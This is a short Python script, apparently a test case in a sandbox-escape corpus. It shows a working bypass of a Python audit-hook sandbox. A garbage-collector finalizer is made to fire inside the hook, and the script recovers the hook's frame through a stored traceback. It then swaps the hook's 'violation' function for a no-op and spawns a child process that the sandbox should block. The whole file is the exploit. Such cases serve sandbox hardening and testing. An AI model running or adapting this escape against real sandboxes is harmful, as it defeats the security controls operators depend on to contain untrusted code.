# family: gc_reentry
# reaches: process
# layer: runtime
# static: denied
# A finalizer of cyclic garbage runs wherever the collector starts, also inside the audit hook
# (which allocates while it normalizes the paths of an event). The finalizer raises no audit event: it only keeps
# a traceback. Once the hook has returned, the traceback's frame leads (f_back) to the hook's
# frames, whose closure is disarmed. The collection threshold is swept until it falls in the hook.
import gc
import os
import sys
import traceback

kept = []


class Node:
    def __init__(self):
        self.me = self

    def __del__(self):
        try:
            raise KeyError("finalized")
        except KeyError as e:
            kept.append(e.__traceback__)


def hook_check():
    while kept:
        for frame, _ in traceback.walk_tb(kept.pop()):
            while frame is not None:
                if "check" in frame.f_locals and "busy" in frame.f_locals:
                    return frame.f_locals["check"]
                frame = frame.f_back
    return None


check = None
for threshold in range(1, 200):
    gc.collect()
    gc.set_threshold(threshold)
    Node()
    sys.audit("os.mkdir", *["/tmp/reports/2024/q%d" % q for q in range(40)])
    gc.set_threshold(700)
    check = hook_check()
    if check is not None:
        break

for cell in check.__closure__ if check is not None else ():  # no hook: nothing to disarm
    if getattr(cell.cell_contents, "__name__", "") == "violation":
        cell.cell_contents = lambda *args: None

pid = os.posix_spawn(sys.executable, [sys.executable, "-c", "print('child process')"], {})
print("threshold", threshold, os.waitpid(pid, 0))
